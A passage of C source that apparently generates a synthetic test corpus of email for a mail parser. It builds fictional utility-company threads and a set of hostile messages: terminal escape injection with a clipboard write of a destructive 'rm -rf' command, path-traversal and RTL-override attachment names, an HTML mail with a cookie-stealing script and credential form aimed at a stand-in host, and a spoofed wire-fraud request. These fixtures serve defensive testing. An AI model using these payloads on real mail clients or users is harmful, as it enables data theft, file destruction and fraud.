		natt++;
	} else if (m->kind != DEMO_FORWARD && th->topic->attach &&
		   demo_rng_pct(&g->rng, i == 0 ? th->topic->attach_pct : th->topic->attach_pct / 3)) {
		struct demo_env env = {.lang = m->lang, .when = m->when};
		unsigned n = demo_rng_pct(&g->rng, 25) ? 2 : 1;

		for (unsigned k = 0; k < n; k++)
			demo_make_attachment(g, ctx, th->topic, &env, &f, &atts[natt++]);
	}

	demo_buf_init(&out, ctx);
	demo_emit_thread_headers(g, ctx, &out, th, m, &f, gal);
	demo_emit_body(g, ctx, &out, m->client, &f, m->text, html, f.logo && html ? &logo : NULL,
		       atts, natt);
	st = demo_write_file(g, &out);
	if (st == TRAWL_OK) {
		m->raw = talloc_memdup(th->ctx, out.p, out.len);
		m->raw_len = out.len;
		if (!m->raw)
			g->oom = true;
		demo_remember(g, &out);
	}
	talloc_free(ctx);
	return st == TRAWL_OK && g->oom ? TRAWL_NOMEM : st;
}

/* Plans message i of a thread (who, when, what it answers) before it is written. */
static void
demo_thread_plan(struct demo_gen *g, struct demo_thread *th, unsigned i, int64_t start)
{
	struct demo_msg *m = &th->m[i];
	const struct demo_person *fp;
	bool has_staff = false;

	memset(m, 0, sizeof(*m));
	m->parent = -1;
	m->list = th->list;
	m->refs = (char *)"";
	if (i == 0) {
		m->kind = DEMO_NEW;
		m->from = th->people[0];
		m->when = start;
		for (unsigned k = 1; k < th->npeople && m->list < 0 && m->nto < 3; k++)
			m->to[m->nto++] = th->people[k];
		if (th->npeople > m->nto + 1 && demo_rng_pct(&g->rng, 25))
			m->cc[m->ncc++] = th->people[m->nto + 1];
		m->subject = th->base;
	} else {
		int p = i == 1 || demo_rng_pct(&g->rng, 75) ? (int)i - 1 : (int)demo_rng_below(&g->rng, i);
		const struct demo_msg *par = &th->m[p];
		unsigned r = demo_rng_below(&g->rng, 100);
		int64_t gap = r < 55   ? (int64_t)demo_rng_range(&g->rng, 2, 180) * 60
			      : r < 85 ? (int64_t)demo_rng_range(&g->rng, 3, 28) * 3600
				       : (int64_t)demo_rng_range(&g->rng, 1, 6) * 86400;

		m->parent = p;
		m->when = th->m[i - 1].when + gap + demo_rng_below(&g->rng, 60);
		{
			struct demo_tm tm;

			/* People mostly answer in the morning rather than in the night. */
			demo_localtime(m->when, DEMO_TZ_PARIS, &tm);
			if ((tm.hour >= 22 || tm.hour < 7) && demo_rng_pct(&g->rng, 85)) {
				unsigned to_seven = tm.hour >= 22 ? 24 - tm.hour + 7 : 7 - tm.hour;

				m->when += (int64_t)(to_seven + demo_rng_below(&g->rng, 3)) * 3600;
			}
		}
		m->kind = th->list < 0 && demo_rng_pct(&g->rng, 7) ? DEMO_FORWARD : DEMO_REPLY;
		m->depth = par->depth + 1;
		if (m->kind == DEMO_REPLY) {
			if (par->nto && par->to[0] != par->from && demo_rng_pct(&g->rng, 60))
				m->from = par->to[0];
			else
				do
					m->from = th->people[demo_rng_below(&g->rng, th->npeople)];
				while (m->from == par->from && th->npeople > 1);
			if (m->list < 0) {
				m->to[m->nto++] = par->from;
				if (demo_rng_pct(&g->rng, 35)) {
					for (unsigned k = 0; k < par->nto && m->ncc < 4; k++)
						if (par->to[k] != m->from && par->to[k] != par->from)
							m->cc[m->ncc++] = par->to[k];
					for (unsigned k = 0; k < par->ncc && m->ncc < 4; k++)
						if (par->cc[k] != m->from)
							m->cc[m->ncc++] = par->cc[k];
				}
			}
			m->refs = demo_printf(g, th->ctx, "%s%s<%s>", par->refs, *par->refs ? " " : "",
					      par->id);
		} else {
			int to;

			m->from = par->nto && demo_is_staff((unsigned)par->to[0]) ? par->to[0] : th->people[0];
			if (!demo_is_staff((unsigned)m->from))
				m->from = demo_pick_person(g, DEMO_DEPT(DEMO_DG) | DEMO_DEPT(DEMO_LEGAL), 0, -1);
			if (m->from < 0)
				m->from = 0;
			to = th->topic->orgs && demo_rng_pct(&g->rng, 30)
				     ? demo_pick_person(g, 0, th->topic->orgs, m->from)
				     : demo_pick_person(g, DEMO_DEPT(DEMO_DG) | DEMO_DEPT(DEMO_LEGAL) |
								   DEMO_DEPT(DEMO_FIN) | DEMO_DEPT(DEMO_COM),
							0, m->from);
			m->to[m->nto++] = to >= 0 ? to : th->people[0];
			demo_thread_add(th, m->to[0]);
			/* Half the forwards carry the thread's references; the others start anew. */
			if (demo_rng_pct(&g->rng, 50))
				m->refs = demo_printf(g, th->ctx, "%s%s<%s>", par->refs,
						      *par->refs ? " " : "", par->id);
		}
	}
	fp = demo_person((unsigned)m->from);
	m->client = fp->client;
	m->lang = th->lang;
	if (fp->lang == DEMO_EN && (fp->dept == DEMO_EXT || demo_rng_pct(&g->rng, 50)))
		m->lang = DEMO_EN;
	/* The cache is the Régie's: every message has one of its people or lists on it. */
	has_staff = m->list >= 0 || demo_is_staff((unsigned)m->from);
	for (unsigned k = 0; k < m->nto; k++)
		has_staff |= demo_is_staff((unsigned)m->to[k]);
	for (unsigned k = 0; k < m->ncc; k++)
		has_staff |= demo_is_staff((unsigned)m->cc[k]);
	for (unsigned k = 0; !has_staff && k < th->npeople && m->ncc < 4; k++)
		if (demo_is_staff((unsigned)th->people[k])) {
			m->cc[m->ncc++] = th->people[k];
			has_staff = true;
		}
	if (i > 0)
		m->subject = demo_printf(g, th->ctx, "%s%s",
					 demo_reply_prefix(g, m->client, m->lang, m->kind),
					 demo_strip_re(th->m[m->parent].subject));
	m->id = demo_message_id(g, th->ctx, m->client, demo_orgs[fp->org].domain, m->when);
}

/* Writes one thread of at most budget messages. */
static trawl_status_t
demo_thread_run(struct demo_gen *g, unsigned budget)
{
	struct demo_thread *th = talloc_zero(g->root, struct demo_thread);
	const struct demo_topic *t;
	int64_t start;
	unsigned n, extra;
	bool english = false, staff = false;
	struct demo_env env;
	trawl_status_t st = TRAWL_OK;

	if (!th)
		return TRAWL_NOMEM;
	th->ctx = th;
	t = th->topic = demo_pick_topic(g);
	th->list = t->list >= 0 && demo_rng_pct(&g->rng, t->list_pct) ? t->list : -1;
	if (t->orgs && th->list < 0 && demo_rng_pct(&g->rng, 30))
		demo_thread_add(th, demo_pick_person(g, 0, t->orgs, -1));
	else
		demo_thread_add(th, demo_pick_person(g, t->depts, 0, -1));
	if (th->npeople == 0)
		demo_thread_add(th, 0);
	extra = demo_rng_range(&g->rng, 1, 4);
	for (unsigned k = 0; k < extra; k++)
		demo_thread_add(th, t->orgs && th->list < 0 && demo_rng_pct(&g->rng, 25)
					    ? demo_pick_person(g, 0, t->orgs, -1)
					    : demo_pick_person(g, t->depts, 0, -1));
	for (unsigned k = 0; k < th->npeople; k++) {
		const struct demo_person *p = demo_person((unsigned)th->people[k]);

		english |= p->dept == DEMO_EXT && p->lang == DEMO_EN;
		staff |= p->org == DEMO_ORG_REVB;
	}
	if (!staff)
		demo_thread_add(th, demo_pick_person(g, t->depts & ~DEMO_DEPT(DEMO_BOARD), 0, -1));
	if (th->npeople < 2)
		demo_thread_add(th, demo_pick_person(g, DEMO_DEPT(DEMO_DG), 0, th->people[0]));
	th->lang = english || demo_rng_pct(&g->rng, t->english) ? DEMO_EN : DEMO_FR;
	n = demo_thread_size(g);
	if (n > budget)
		n = budget;
	start = demo_start_time(g);
	env = (struct demo_env){.lang = th->lang, .when = start};
	th->base = demo_expand(g, th->ctx, &env, demo_pick(g, &t->subjects[th->lang]));
	if (th->list >= 0 && *demo_lists[th->list].prefix)
		th->base = demo_printf(g, th->ctx, "%s%s", demo_lists[th->list].prefix, th->base);
	for (unsigned k = 0; k < sizeof(th->tindex); k++)
		th->tindex[k] = (unsigned char)demo_rng_next(&g->rng);
	for (unsigned i = 0; i < n && st == TRAWL_OK; i++) {
		demo_thread_plan(g, th, i, start);
		th->n = i + 1;
		st = g->oom ? TRAWL_NOMEM : demo_thread_write_msg(g, th, i);
	}
	talloc_free(th);
	return st;
}

/* ---------------------------------------------------------------- special messages */

/*
 * The messages that are not ordinary thread mail: the hostile ones, the
 * Japanese and Russian ones, the large ones and the duplicates.  They are
 * spread evenly through the corpus.
 */
enum demo_special_kind {
	DEMO_SP_HOSTILE,
	DEMO_SP_JAPANESE,
	DEMO_SP_RUSSIAN,
	DEMO_SP_LARGE,
	DEMO_SP_DUPLICATE,
};

struct demo_special {
	enum demo_special_kind kind;
	unsigned arg;
};

enum demo_hostile {
	DEMO_HOSTILE_ANSI_SUBJECT,
	DEMO_HOSTILE_ENCODED_ESCAPES,
	DEMO_HOSTILE_BIDI_ATTACHMENT,
	DEMO_HOSTILE_INVALID_UTF8,
	DEMO_HOSTILE_PATH_TRAVERSAL,
	DEMO_HOSTILE_HTML,
	DEMO_HOSTILE_DEEP_NESTING,
	DEMO_HOSTILE_LONG_LINE,
	DEMO_HOSTILE_SPOOFED_FROM,
	DEMO_HOSTILES,
};

static const char *const demo_hostile_names[DEMO_HOSTILES] = {
	[DEMO_HOSTILE_ANSI_SUBJECT] = "ansi-subject",
	[DEMO_HOSTILE_ENCODED_ESCAPES] = "encoded-escapes",
	[DEMO_HOSTILE_BIDI_ATTACHMENT] = "bidi-attachment",
	[DEMO_HOSTILE_INVALID_UTF8] = "invalid-utf8",
	[DEMO_HOSTILE_PATH_TRAVERSAL] = "path-traversal",
	[DEMO_HOSTILE_HTML] = "html",
	[DEMO_HOSTILE_DEEP_NESTING] = "deep-nesting",
	[DEMO_HOSTILE_LONG_LINE] = "long-line",
	[DEMO_HOSTILE_SPOOFED_FROM] = "spoofed-from",
};

/* Headers of a special message; values are written as given (already encoded). */
struct demo_simple {
	const char *from;
	const char *to;
	const char *cc;
	const char *subject;
	const char *id;
	const char *refs;  /* References, whose last id is also In-Reply-To; NULL for none */
	const char *irt;
	int64_t when;
	enum demo_zone zone;
	const char *extra; /* more header lines, each ending in a newline */
	bool inbound;      /* add the Régie's trace headers */
	const char *sender;
};

static void
demo_simple_headers(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out,
		    const struct demo_simple *s)
{
	if (s->inbound) {
		const char *at = strrchr(s->sender, '@');
		unsigned host = demo_rng_range(&g->rng, 2, 250);
		unsigned long long queue_id = demo_rng_next(&g->rng) & 0xFFFFFFFFFFull;

		demo_buf_printf(out, "Return-Path: <%s>\n", s->sender);
		demo_buf_printf(out, "Received: from mx.%s (mx.%s [203.0.113.%u])\n"
				     "\tby mx1.eaux-valbrenne.example (Postfix) with ESMTP id %010llX;\n"
				     "\t%s\n",
				at ? at + 1 : "example", at ? at + 1 : "example", host, queue_id,
				demo_rfc5322_date(g, ctx, s->when + 7, DEMO_TZ_PARIS, 1));
	}
	demo_header(out, "From", s->from);
	demo_header(out, "To", s->to);
	if (s->cc)
		demo_header(out, "Cc", s->cc);
	demo_header(out, "Subject", s->subject);
	demo_header(out, "Date", demo_rfc5322_date(g, ctx, s->when, s->zone, 0));
	demo_buf_printf(out, "Message-ID: <%s>\n", s->id);
	if (s->irt)
		demo_buf_printf(out, "In-Reply-To: <%s>\n", s->irt);
	if (s->refs)
		demo_header(out, "References", s->refs);
	demo_buf_puts(out, "MIME-Version: 1.0\n");
	if (s->extra)
		demo_buf_puts(out, s->extra);
}

/* Name <address> of a person, encoded for the header the way fmt says. */
static char *
demo_person_addr(struct demo_gen *g, TALLOC_CTX *ctx, unsigned who, char enc, enum demo_cs cs,
		 const char *label)
{
	struct demo_fmt f = {.hdr_enc = enc, .hdr_cs = cs, .hdr_label = label};
	struct demo_buf out;

	demo_buf_init(&out, ctx);
	demo_put_addr(g, ctx, &out, demo_person(who)->name, demo_email(g, ctx, who), &f);
	return demo_buf_take(g, &out);
}

static char *
demo_encoded(struct demo_gen *g, TALLOC_CTX *ctx, const char *s, enum demo_cs cs, const char *label,
	     char enc)
{
	struct demo_buf out;

	demo_buf_init(&out, ctx);
	demo_rfc2047(g, ctx, s, cs, label, enc, &out);
	return demo_buf_take(g, &out);
}

static char *
demo_hostile_id(struct demo_gen *g, TALLOC_CTX *ctx, enum demo_hostile h)
{
	return demo_printf(g, ctx, "hostile-%s@%s", demo_hostile_names[h], DEMO_HOSTILE_ID_DOMAIN);
}

static const char demo_hostile_ansi_body[] =
	"Madame, Monsieur,\n"
	"\n"
	"Sauf erreur de notre part, la facture n° 2016-0412 reste impayée.\x1b[8m Texte "
	"invisible : ne lisez pas ceci.\x1b[0m\n"
	"Montant dû : 150,00 €\rMontant dû : 15 000,00 €\n"
	"\x1b]8;;https://factures-express.example/payer\x1b\\Payer en ligne\x1b]8;;\x1b\\\n"
	"\x1b[?1049h\x1b[H\x1b[2J\x1b[7m  CET ÉCRAN A ÉTÉ EFFACÉ PAR UN COURRIEL  \x1b[0m\x1b[?1049l\n"
	"Suppression\b\b\b\b\b\b\b\b\b\b\bValidation  \n"
	"Séquences C1 : \xc2\x9b" "31mrouge\xc2\x9b" "0m et \xc2\x9d" "0;titre\xc2\x9c\n"
	"Requêtes au terminal : \x1b[6n \x1b[21t \x1bP+q544e\x1b\\ \x1b[c\n"
	"Cloches : \x07\x07\x07\n"
	"\n"
	"-- \n"
	"Service Facturation\n";

static void
demo_hostile_ansi(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, struct demo_simple *s)
{
	/* Raw escapes straight in the header, as a careless mailer would send them. */
	s->subject = "Facture impayée n° 2016-0412 \x1b[1;31mRELANCE FINALE\x1b[0m"
		     "\x1b]0;Vous avez été piraté\x07\x1b[2J";
	demo_simple_headers(g, ctx, out, s);
	demo_buf_puts(out, "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n");
	demo_buf_puts(out, demo_hostile_ansi_body);
}

static void
demo_hostile_encoded(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, struct demo_simple *s)
{
	static const char body[] =
		"Bonjour,\n\n"
		"Votre compte de messagerie arrive à expiration.\x1b]0;Compte piraté\x07\n"
		"Ce courriel a tenté d'écrire dans votre presse-papiers : "
		"\x1b]52;c;cm0gLXJmIH4vKiAjIGRlbW8gdHJhd2w=\x07\n"
		"Un octet nul suit : [\0] et un saut de page : [\f] et une tabulation verticale : [\v].\n"
		"\x1b[5m\x1b[41mURGENT\x1b[0m\n\n"
		"Le support informatique\n";
	struct demo_buf sub;

	demo_buf_init(&sub, ctx);
	demo_rfc2047(g, ctx, "Mise à jour de votre compte \x1b]0;Compte piraté\x07\x1b[5mURGENT\x1b[0m",
		     DEMO_CS_UTF8, "UTF-8", 'B', &sub);
	s->subject = demo_buf_take(g, &sub);
	s->from = "=?UTF-8?Q?Support_informatique_=1B[31m=1B]0;Support=07?= "
		  "<support@factures-express.example>";
	demo_simple_headers(g, ctx, out, s);
	demo_buf_puts(out, "Content-Type: text/plain; charset=\"UTF-8\"\n"
			   "Content-Transfer-Encoding: base64\n\n");
	demo_base64((const unsigned char *)body, sizeof(body) - 1, 76, out);
}

static void
demo_hostile_bidi(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, struct demo_simple *s)
{
	static const char *const names[] = {"invoice\u202Efdp.exe", "photo\u2066\u202Egnp.js\u2069",
					    "Relev\u00e9_\u202Excod.scr"};
	struct demo_buf data;

	s->subject = "Votre facture F-2016-0412";
	demo_simple_headers(g, ctx, out, s);
	demo_mp_begin(out, "mixed", "bidi-boundary-0412", "", NULL);
	demo_mp_next(out, "bidi-boundary-0412", false);
	demo_buf_puts(out, "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
			   "Bonjour,\n\nVeuillez trouver ci-joint votre facture au format PDF.\n"
			   "Le nom du fichier contient un caractère U+202E (RIGHT-TO-LEFT OVERRIDE) :\n"
			   "il s'affiche « invoiceexe.pdf » mais se termine en .exe.\n\nService Facturation\n");
	demo_buf_init(&data, ctx);
	demo_buf_add(&data, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", 14);
	demo_make_office(g, &data, false, 2048);
	for (unsigned i = 0; i < DEMO_ARRAY_SIZE(names); i++) {
		struct demo_att a = {.type = i ? "application/octet-stream" : "application/pdf",
				     .name = names[i], .name_style = i == 1 ? DEMO_NAME_2047_B : DEMO_NAME_2231,
				     .data = demo_buf_str(&data), .len = data.len, .cte = DEMO_CTE_B64};

		demo_mp_next(out, "bidi-boundary-0412", true);
		demo_emit_attachment(g, ctx, out, &a);
	}
	demo_mp_end(out, "bidi-boundary-0412", true);
}

static void
demo_hostile_invalid(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, struct demo_simple *s)
{
	s->subject = "R\xe9union budget \xff\xfe \xc3\x28 \xe2\x82 \xed\xa0\x80 fin";
	s->from = "\"J\xe9r\xf4me \xc0\xaf Dubois\" <jerome.dubois@factures-express.example>";
	s->to = "=?UTF-8?B?/v/AgMCv?= <helene.lefevre@eaux-valbrenne.example>";
	demo_simple_headers(g, ctx, out, s);
	demo_buf_puts(out,
		      "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
		      "Ce message se dit UTF-8 mais ne l'est pas partout :\n"
		      "Latin-1 brut : r\xe9union, \xe0 bient\xf4t\n"
		      "Surlong : \xc0\xaf \xe0\x80\xaf \xf0\x80\x80\xaf\n"
		      "Demi-substitut : \xed\xa0\x80 \xed\xbf\xbf\n"
		      "Hors plage : \xf4\x90\x80\x80 \xf8\x88\x80\x80\x80 \xfc\x84\x80\x80\x80\x80\n"
		      "Continuations seules : \x80\xbf\x80\n"
		      "Octets interdits : \xfe\xff\xc0\xc1\n"
		      "Tronqué en fin de ligne : \xe2\x82\n"
		      "Tronqué en fin de message : \xf0\x9f\x92");
}

static void
demo_hostile_paths(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, struct demo_simple *s)
{
	static const struct {
		const char *name;
		int style;
	} names[] = {
		{"../../../../.bashrc", DEMO_NAME_PLAIN},
		{"../../../etc/cron.d/demo", DEMO_NAME_2231},
		{"..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", DEMO_NAME_PLAIN},
		{"/tmp/../../home/user/.ssh/authorized_keys", DEMO_NAME_PLAIN},
		{"~/.profile", DEMO_NAME_PLAIN},
		{"rapport.pdf\n.sh", DEMO_NAME_2231},
	};
	static const char note[] = "# trawl demo: this file name tries to leave the directory it is saved in.\n";
	struct demo_buf longname;

	s->subject = "Documents du dossier Rocheval (6 pièces)";
	demo_simple_headers(g, ctx, out, s);
	demo_mp_begin(out, "mixed", "traversal-7f3a", "", NULL);
	demo_mp_next(out, "traversal-7f3a", false);
	demo_buf_puts(out, "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
			   "Voici les pièces demandées. Leurs noms de fichiers essaient de sortir du\n"
			   "dossier d'enregistrement (../, chemins absolus, barres obliques inverses,\n"
			   "octet nul, fin de ligne, nom de 300 caractères).\n");
	for (unsigned i = 0; i < DEMO_ARRAY_SIZE(names); i++) {
		struct demo_att a = {.type = "text/plain", .charset = "us-ascii", .name = names[i].name,
				     .name_style = names[i].style, .data = note, .len = sizeof(note) - 1,
				     .cte = DEMO_CTE_7BIT};

		demo_mp_next(out, "traversal-7f3a", true);
		demo_emit_attachment(g, ctx, out, &a);
	}
	/* A NUL byte in the middle of the name, which only RFC 2231 can carry. */
	demo_mp_next(out, "traversal-7f3a", true);
	demo_buf_printf(out, "Content-Type: application/pdf; name=\"rapport.txt.pdf\"\n"
			     "Content-Disposition: attachment;\n\tfilename*=utf-8''rapport%%00.txt.pdf\n"
			     "Content-Transfer-Encoding: 7bit\n\n%s", note);
	demo_buf_init(&longname, ctx);
	for (int i = 0; i < 296; i++)
		demo_buf_putc(&longname, (char)('a' + i % 26));
	demo_buf_puts(&longname, ".pdf");
	{
		struct demo_att a = {.type = "application/pdf", .name = demo_buf_str(&longname),
				     .name_style = DEMO_NAME_2231_CONT, .data = note,
				     .len = sizeof(note) - 1, .cte = DEMO_CTE_B64};

		demo_mp_next(out, "traversal-7f3a", true);
		demo_emit_attachment(g, ctx, out, &a);
	}
	demo_mp_end(out, "traversal-7f3a", true);
}

static void
demo_hostile_html(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, struct demo_simple *s)
{
	static const char html[] =
		"<html><head>\n"
		"<meta http-equiv=\"refresh\" content=\"0;url=https://factures-express.example/r\">\n"
		"<base href=\"https://factures-express.example/\">\n"
		"<style>.h{display:none} body{background:url('https://track.factures-express.example/bg.png')}</style>\n"
		"<script>document.location='https://factures-express.example/steal?c='+document.cookie</script>\n"
		"</head>\n<body onload=\"alert('xss')\">\n"
		"<p>Bonjour,</p>\n"
		"<p>Votre espace client <a href=\"https://factures-express.example/login\">"
		"https://www.eaux-valbrenne.example/espace-client</a> expire aujourd&#39;hui&nbsp;!</p>\n"
		"<p><a href=\"javascript:alert(document.cookie)\">Voir la facture</a> &mdash; "
		"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">aper&ccedil;u</a> "
		"&mdash; <a href=\"file:///etc/passwd\">pi&egrave;ce jointe</a></p>\n"
		"<ul><li>Montant&nbsp;: 1&nbsp;250,00&nbsp;&euro;</li><li>&Eacute;ch&eacute;ance&nbsp;: "
		"aujourd&rsquo;hui</li><li>R&eacute;f.&nbsp;: &laquo;&nbsp;F-2016-0412&nbsp;&raquo;</li></ul>\n"
		"<table border=\"1\"><tr><th>Ligne</th><th>Montant</th></tr>"
		"<tr><td>Abonnement</td><td>1&#8239;250&nbsp;&euro;</td></tr></table>\n"
		"<img src=\"http://track.factures-express.example/pixel.gif?u=jerome.dubois\" width=\"1\" height=\"1\">\n"
		"<iframe src=\"https://factures-express.example/frame\" width=\"0\" height=\"0\"></iframe>\n"
		"<form action=\"https://factures-express.example/collect\" method=\"post\">"
		"Mot de passe&nbsp;: <input type=\"password\" name=\"pw\"><input type=\"submit\" value=\"Valider\"></form>\n"
		"<span class=\"h\">texte cach&eacute; par une feuille de style</span>"
		"<span style=\"display:none\">mot de passe : hunter2</span>\n"
		"<svg onload=\"alert(1)\"></svg><object data=\"https://factures-express.example/x.swf\"></object>\n"
		"<p>eaux&#8203;-valbrenne.example &#x202E;cod.exe&#x202C;</p>\n"
		"<p>Cordialement,<br>Le service client</p>\n"
		"</body></html>\n";

	s->subject = "Votre espace client expire aujourd'hui";
	demo_simple_headers(g, ctx, out, s);
	demo_buf_puts(out, "Content-Type: text/html; charset=\"utf-8\"\n"
			   "Content-Transfer-Encoding: quoted-printable\n\n");
	demo_qp((const unsigned char *)html, sizeof(html) - 1, out);
}

static void
demo_hostile_nesting(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, struct demo_simple *s)
{
	enum { DEPTH = 64 };

	s->subject = "Poupées russes : 64 niveaux de multipart";
	demo_simple_headers(g, ctx, out, s);
	for (unsigned i = 0; i < DEPTH; i++) {
		char b[32];

		snprintf(b, sizeof(b), "nest-%02u", i);
		demo_mp_begin(out, "mixed", b, "", NULL);
		demo_mp_next(out, b, false);
		demo_buf_printf(out, "Content-Type: text/plain; charset=us-ascii\n\nNiveau %u.\n", i);
		demo_mp_next(out, b, false);
	}
	demo_buf_puts(out, "Content-Type: text/plain; charset=us-ascii\n\nTout au fond.\n");
	for (unsigned i = DEPTH; i-- > 0;) {
		char b[32];

		snprintf(b, sizeof(b), "nest-%02u", i);
		demo_mp_end(out, b, false);
	}
}

static void
demo_hostile_long(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, struct demo_simple *s)
{
	static const char piece[] = "Cette_ligne_ne_finit_jamais,_ni_espace_ni_retour,_"
				    "juste_des_caractères_accentués_éèàçù_et_des_chiffres_0123456789_";

	s->subject = demo_encoded(g, ctx,
				  "Compte rendu 𝐈𝐌𝐏𝐎𝐑𝐓𝐀𝐍𝐓 Z̷̢̛a̶l̵g̸o̴ 水道 🚰💧 ｆｕｌｌｗｉｄｔｈ",
				  DEMO_CS_UTF8, "UTF-8", 'B');
	demo_simple_headers(g, ctx, out, s);
	demo_buf_puts(out, "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n");
	while (out->len < DEMO_LARGE_BYTES && !out->oom)
		demo_buf_puts(out, piece);
	demo_buf_puts(out, "\n\ne");
	for (int i = 0; i < 300; i++)
		demo_buf_puts(out, i % 2 ? "\xcc\x81" : "\xcc\xb8");
	demo_buf_puts(out, "\n\tTabulations\tau\tmilieu\t\tdu\ttexte\n"
			   "Ｐｌｅｉｎｅ ｃｈａｓｓｅ：水道公社の資料\n"
			   "Emoji : 🚰💧🧾👩‍💼🏳️‍🌈 fin.\n");
}

static void
demo_hostile_spoof(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, struct demo_simple *s)
{
	struct demo_buf from;

	demo_buf_init(&from, ctx);
	demo_rfc2047(g, ctx, "Hélène Lefèvre \u202E<helene.lefevre@eaux-valbrenne.example>\u202C",
		     DEMO_CS_UTF8, "UTF-8", 'Q', &from);
	demo_buf_puts(&from, " <h.lefevre.direction@factures-express.example>");
	s->from = demo_buf_take(g, &from);
	s->subject = demo_encoded(g, ctx, "Virement urgent et confidentiel \u200F\u2066\u2069",
				  DEMO_CS_UTF8, "UTF-8", 'B');
	s->extra = "Reply-To: =?UTF-8?Q?H=C3=A9l=C3=A8ne_Lef=C3=A8vre?= <direction.revb@courriel.example>\n";
	demo_simple_headers(g, ctx, out, s);
	demo_buf_puts(out, "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
			   "Jérôme,\n\n"
			   "J'ai besoin que tu effectues un virement aujourd'hui, en toute discrétion : "
			   "c'est lié au protocole Rocheval et personne ne doit être au courant avant le "
			   "conseil.\n\n"
			   "Montant : \u202E00 584\u202C €\n"
			   "IBAN : FR76 0000 0000 0000 0000 0000 000 (banque fictive)\n\n"
			   "Réponds uniquement à cette adresse, je suis en réunion.\n\n"
			   "Hélène\n\nEnvoyé de mon iPhone\n");
}

static trawl_status_t
demo_special_hostile(struct demo_gen *g, enum demo_hostile h)
{
	TALLOC_CTX *ctx = talloc_new(g->root);
	struct demo_buf out;
	struct demo_simple s;
	unsigned victim = demo_person_index(h == DEMO_HOSTILE_SPOOFED_FROM ? "jerome.dubois"
					    : h % 2 ? "helene.lefevre" : "jerome.dubois");
	trawl_status_t st;

	if (!ctx)
		return TRAWL_NOMEM;
	memset(&s, 0, sizeof(s));
	s.from = "Service Facturation <relance@factures-express.example>";
	s.to = demo_person_addr(g, ctx, victim, 'Q', DEMO_CS_UTF8, "utf-8");
	s.id = demo_hostile_id(g, ctx, h);
	s.when = demo_start_time(g);
	s.zone = DEMO_TZ_UTC;
	s.inbound = true;
	s.sender = "relance@factures-express.example";
	demo_buf_init(&out, ctx);
	switch (h) {
	case DEMO_HOSTILE_ANSI_SUBJECT:
		demo_hostile_ansi(g, ctx, &out, &s);
		break;
	case DEMO_HOSTILE_ENCODED_ESCAPES:
		demo_hostile_encoded(g, ctx, &out, &s);
		break;
	case DEMO_HOSTILE_BIDI_ATTACHMENT:
		demo_hostile_bidi(g, ctx, &out, &s);
		break;
	case DEMO_HOSTILE_INVALID_UTF8:
		demo_hostile_invalid(g, ctx, &out, &s);
		break;
	case DEMO_HOSTILE_PATH_TRAVERSAL:
		demo_hostile_paths(g, ctx, &out, &s);
		break;
	case DEMO_HOSTILE_HTML:
		demo_hostile_html(g, ctx, &out, &s);
		break;
	case DEMO_HOSTILE_DEEP_NESTING:
		demo_hostile_nesting(g, ctx, &out, &s);
		break;
	case DEMO_HOSTILE_LONG_LINE:
		demo_hostile_long(g, ctx, &out, &s);
		break;
	default:
		demo_hostile_spoof(g, ctx, &out, &s);
		break;
	}
	st = demo_write_file(g, &out);
	talloc_free(ctx);
	return st;
}

/* The Japanese pump maker's shipping notice, an English answer, and a delay notice. */
static trawl_status_t
demo_special_japanese(struct demo_gen *g, unsigned budget)
{
	TALLOC_CTX *ctx = talloc_new(g->root);
	unsigned kenichi = demo_person_index("k-yamamoto"), helene = demo_person_index("helene.lefevre");
	unsigned margaret = demo_person_index("margaret.obrien");
	const char *from_ja, *id1, *id2, *id3;
	struct demo_simple s;
	struct demo_buf out, body;
	/* The notice speaks of an April 2016 shipment: it is sent in March, in Tokyo's office hours. */
	int day = 14 + (int)demo_rng_below(&g->rng, 10);
	int64_t hour = demo_rng_range(&g->rng, 0, 8);
	int64_t t = demo_days_from_civil(2016, 3, day) * 86400 + hour * 3600 + demo_rng_below(&g->rng, 3600);
	trawl_status_t st = TRAWL_OK;

	if (!ctx)
		return TRAWL_NOMEM;
	{
		struct demo_buf f;

		demo_buf_init(&f, ctx);
		demo_rfc2047(g, ctx, "山本 健一", DEMO_CS_JIS, "ISO-2022-JP", 'B', &f);
		demo_buf_printf(&f, " <%s>", demo_email(g, ctx, kenichi));
		from_ja = demo_buf_take(g, &f);
	}
	id1 = demo_printf(g, ctx, "%016llx@kaneda-pumps.example", (unsigned long long)demo_rng_next(&g->rng));
	id2 = demo_message_id(g, ctx, DEMO_APPLE, demo_domain, t + 20000);
	id3 = demo_printf(g, ctx, "%016llx@kaneda-pumps.example", (unsigned long long)demo_rng_next(&g->rng));

	/* 1: the notice, ISO-2022-JP in 7 bits. */
	memset(&s, 0, sizeof(s));
	s.from = from_ja;
	s.to = demo_person_addr(g, ctx, helene, 'B', DEMO_CS_UTF8, "UTF-8");
	s.cc = demo_person_addr(g, ctx, margaret, 'B', DEMO_CS_UTF8, "UTF-8");
	s.subject = demo_encoded(g, ctx, demo_text_ja_subject, DEMO_CS_JIS, "ISO-2022-JP", 'B');
	s.id = id1;
	s.when = t;
	s.zone = DEMO_TZ_TOKYO;
	s.inbound = true;
	s.sender = "k-yamamoto@kaneda-pumps.example";
	s.extra = "X-Mailer: Microsoft Outlook 16.0\n";
	demo_buf_init(&out, ctx);
	demo_simple_headers(g, ctx, &out, &s);
